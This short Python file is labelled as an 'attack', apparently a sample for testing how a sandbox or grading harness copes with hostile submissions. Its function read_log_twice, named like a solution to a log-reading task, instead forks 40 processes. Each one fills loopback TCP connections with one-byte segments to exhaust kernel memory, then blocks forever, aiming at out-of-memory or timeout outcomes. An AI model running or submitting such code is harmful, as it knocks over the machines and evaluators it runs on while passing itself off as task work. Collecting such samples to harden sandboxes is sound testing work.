# /// attack
# outcomes = ["out_of_memory", "timed_out", "unimplemented"]
# says = "read_log_twice()"
# ///
"""Fills connections with segments of one byte, each of which takes a kilobyte of the kernel's."""

import os
import select
import socket


def read_queue_twice(queue_name, messages):
    raise NotImplementedError


def fill(held):
    server = socket.create_server(("127.0.0.1", 0), backlog=100)
    while True:
        ends = [socket.create_connection(server.getsockname()), server.accept()[0]]
        held += ends
        for end in ends:
            end.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            end.setblocking(False)
            try:
                while True:
                    end.send(b"x", socket.MSG_EOR)
            except BlockingIOError:
                pass


def read_log_twice(stream_name, messages):
    held = []
    for _ in range(40):
        if os.fork() == 0:
            try:
                fill(held)
            except OSError:
                pass
            select.poll().poll()
    select.poll().poll()
